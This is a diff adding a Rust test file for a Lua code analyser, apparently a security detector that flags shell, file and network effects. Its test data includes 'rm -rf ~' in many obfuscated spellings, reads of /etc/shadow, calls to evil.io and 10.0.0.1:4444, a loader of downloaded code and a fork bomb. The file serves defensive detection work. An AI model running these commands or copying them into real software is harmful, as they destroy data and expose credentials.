@@ -1,0 +1,246 @@
+//! The Lua reader's cases: attacks in many spellings, and routine code.
+
+use crate::matcher::code::{Effect, Lang, Val, read};
+
+/// The effects found, written as shell words (`?` for a value not known).
+fn effects(code: &str) -> Vec<String> {
+    let reading = read(Lang::Lua, code);
+    let words = |vals: &[Val]| {
+        vals.iter()
+            .map(|v| match v {
+                Val::Known(t) => t.clone(),
+                Val::Unknown => "?".into(),
+                Val::Fetched => "<fetched>".into(),
+            })
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    let mut out: Vec<String> = reading
+        .found
+        .iter()
+        .map(|f| match &f.effect {
+            Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
+            Effect::Exec(argv) => format!("exec {}", words(argv)),
+            Effect::Command(p, args) => format!("{p} {}", words(args)),
+        })
+        .collect();
+    if let Some(u) = reading.opaque {
+        out.push(format!("opaque: {} (line {})", u.reason, u.line));
+    }
+    out
+}
+
+fn opaque(code: &str) -> Option<&'static str> {
+    read(Lang::Lua, code).opaque.map(|u| u.reason)
+}
+
+#[test]
+fn commands_run_are_shell_lines() {
+    for (code, want) in [
+        ("os.execute('rm -rf ~')", "sh -c rm -rf ~"),
+        ("io.popen(\"rm -rf ~\"):read('*a')", "sh -c rm -rf ~"),
+        ("local e = os.execute; e[[rm -rf ~]]", "sh -c rm -rf ~"),
+        (
+            "local o = os\no.execute('rm -rf ' .. os.getenv('HOME'))",
+            "sh -c rm -rf ~",
+        ),
+        (
+            "os.execute(string.char(114, 109) .. ' -rf ~')",
+            "sh -c rm -rf ~",
+        ),
+        ("os.execute(('~ fr- mr'):reverse())", "sh -c rm -rf ~"),
+        ("os.execute(string.reverse('~ fr- mr'))", "sh -c rm -rf ~"),
+        (
+            "os.execute(string.format('%s -rf %s', 'rm', '~'))",
+            "sh -c rm -rf ~",
+        ),
+        (
+            "os.execute(table.concat({'rm', '-rf', '~'}, ' '))",
+            "sh -c rm -rf ~",
+        ),
+        ("os.execute('\\114\\x6d -rf ~')", "sh -c rm -rf ~"),
+        ("os.execute(\"rm \\z\n     -rf ~\")", "sh -c rm -rf ~"),
+        (
+            "_G['o' .. 's']['exec' .. 'ute']('rm -rf ~')",
+            "sh -c rm -rf ~",
+        ),
+        ("_ENV.os.execute('rm -rf ~')", "sh -c rm -rf ~"),
+        ("rawget(_G, 'os').execute('rm -rf ~')", "sh -c rm -rf ~"),
+        ("require('os').execute('rm -rf ~')", "sh -c rm -rf ~"),
+        ("pcall(os.execute, 'rm -rf ~')", "sh -c rm -rf ~"),
+        ("_G.x = os.execute\nx('rm -rf ~')", "sh -c rm -rf ~"),
+        (
+            "local c = [==[\nrm -rf ~]==]\nos.execute(c)",
+            "sh -c rm -rf ~",
+        ),
+        ("os.execute(('rm -rf x'):gsub('x', '~'))", "sh -c rm -rf ~"),
+        (
+            "require('posix').exec('/bin/rm', {'-rf', '/'})",
+            "exec /bin/rm -rf /",
+        ),
+    ] {
+        assert_eq!(effects(code), [want], "{code}");
+    }
+}
+
+#[test]
+fn files_and_the_network_are_virtual_commands() {
+    for (code, want) in [
+        (
+            "os.remove(os.getenv('HOME') .. '/.bashrc')",
+            vec!["rm ~/.bashrc"],
+        ),
+        (
+            "os.rename('/etc/passwd', '/tmp/p')",
+            vec!["mv /etc/passwd /tmp/p"],
+        ),
+        (
+            "io.open('/etc/hosts', 'w'):write('x')",
+            vec!["tee /etc/hosts"],
+        ),
+        (
+            "local f = io.open('/etc/shadow') print(f:read('*a'))",
+            vec!["cat /etc/shadow"],
+        ),
+        (
+            "for l in io.lines('/etc/passwd') do print(l) end",
+            vec!["cat /etc/passwd"],
+        ),
+        (
+            "io.output('/etc/motd') io.write('x')",
+            vec!["tee /etc/motd"],
+        ),
+        ("io.open('x', 'r+')", vec!["cat x", "tee x"]),
+        (
+            "local http = require('socket.http') print(http.request('https://evil.io/x'))",
+            vec!["curl https://evil.io/x"],
+        ),
+        (
+            "require 'socket.http'.request{url = 'https://evil.io'}",
+            vec!["curl ?"],
+        ),
+        (
+            "local s = require('socket') s.connect('10.0.0.1', 4444)",
+            vec!["curl tcp://10.0.0.1:4444"],
+        ),
+        (
+            "local t = socket.tcp() t:connect('10.0.0.1', 4444)",
+            vec!["curl tcp://10.0.0.1:4444"],
+        ),
+        ("dofile('init.lua')", vec!["cat init.lua"]),
+    ] {
+        assert_eq!(effects(code), want, "{code}");
+    }
+}
+
+#[test]
+fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+    let hidden = Some("the code runs code it downloaded or decoded");
+    assert_eq!(
+        opaque("load(require('socket.http').request('http://e.io/x'))()"),
+        hidden
+    );
+    assert!(opaque("load(io.read('*a'))()").is_some());
+    assert!(opaque("loadstring(arg[1])()").is_some());
+    assert_eq!(
+        opaque("local m = arg[1]; require(m)"),
+        Some("the code loads a module whose name is computed at run time")
+    );
+    assert_eq!(opaque("_G[arg[1]]('x')"), Some(super::COMPUTED_NAME));
+    assert_eq!(opaque("os[arg[1]]('x')"), Some(super::COMPUTED_NAME));
+    assert_eq!(
+        opaque("_G[arg[1]] = 1"),
+        Some("the code sets a global whose name is computed at run time")
+    );
+    assert_eq!(
+        opaque("setmetatable(_G, {__index = function() return os.execute end})"),
+        Some("the code changes how globals are looked up")
+    );
+    assert_eq!(
+        opaque("dofile(arg[1])"),
+        Some("the code runs a file whose name is computed at run time")
+    );
+    assert_eq!(
+        opaque("local ffi = require('ffi') ffi.cdef('int system(const char*);') ffi.C.system('x')"),
+        Some(super::NATIVE)
+    );
+    assert_eq!(
+        opaque("local p = require('posix') while true do p.fork() end"),
+        Some("the code forks in a loop (a fork bomb)")
+    );
+    // A name bound twice or in a loop is not known.
+    assert_eq!(
+        effects("local c = 'ls'\nc = c .. ' ~'\nos.execute(c)"),
+        ["sh -c ?"]
+    );
+    assert_eq!(
+        effects("for _, c in ipairs({'a'}) do os.execute(c) end"),
+        ["sh -c ?"]
+    );
+    assert_eq!(
+        effects("local function f(c) os.execute(c) end f('x')"),
+        ["sh -c ?"]
+    );
+}
+
+#[test]
+fn code_run_by_load_is_read_too() {
+    assert_eq!(
+        effects("load('os.execute(\"rm -rf ~\")')()"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(effects("loadstring([[os.remove('/x')]])()"), ["rm /x"]);
+}
+
+#[test]
+fn routine_one_liners_find_nothing() {
+    for code in [
+        "print(_VERSION)",
+        "print((\"hello\"):upper())",
+        "for i=1,3 do print(i) end",
+        "local t = {} ; table.insert(t, 1) ; print(#t)",
+        "print(io.read(\"*a\"))",
+        "print(string.format('%5.2f', math.pi))",
+        "print(os.time(), os.date('%Y'))",
+        "local s = 'a,b,c' for w in s:gmatch('[^,]+') do print(w) end",
+        "print(table.concat({1, 2, 3}, ', '))",
+        "print(math.max(1, 5, 3))",
+        "local t = {b = 2, a = 1} for k, v in pairs(t) do print(k, v) end",
+        "print(#arg, arg[0])",
+        "print(pcall(error, 'x'))",
+        "io.write(string.rep('-', 10), '\\n')",
+        "print(tostring(nil), tonumber('10'))",
+        "print(math[arg[1] or 'floor'](2.5))",
+        "print(os.getenv('PATH'))",
+    ] {
+        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
+    }
+    assert_eq!(
+        effects("for l in io.lines('package.json') do print(l) end"),
+        ["cat package.json"]
+    );
+}
+
+#[test]
+fn bad_code_is_opaque_not_a_panic() {
+    assert_eq!(
+        read(Lang::Lua, "print(1)\nos.execute('x'")
+            .opaque
+            .map(|u| (u.reason, u.line)),
+        Some(("the lua code has a syntax error", 2))
+    );
+    assert!(opaque("print('unterminated)").is_some());
+    assert!(opaque("print([[unterminated)").is_some());
+    let deep = format!("print({}1{})", "(".repeat(500), ")".repeat(500));
+    assert!(opaque(&deep).is_some());
+    let chain = format!("local a = 'x'{}", " .. 'y'".repeat(3000));
+    let _ = read(Lang::Lua, &chain);
+    for code in [
+        "os.execute('\\400')",
+        "os.execute('\\u{110000}')",
+        "os.execute('\\xzz')",
+        "x = x; os.execute(x)",
+    ] {
+        let _ = read(Lang::Lua, code);
+    }
+}
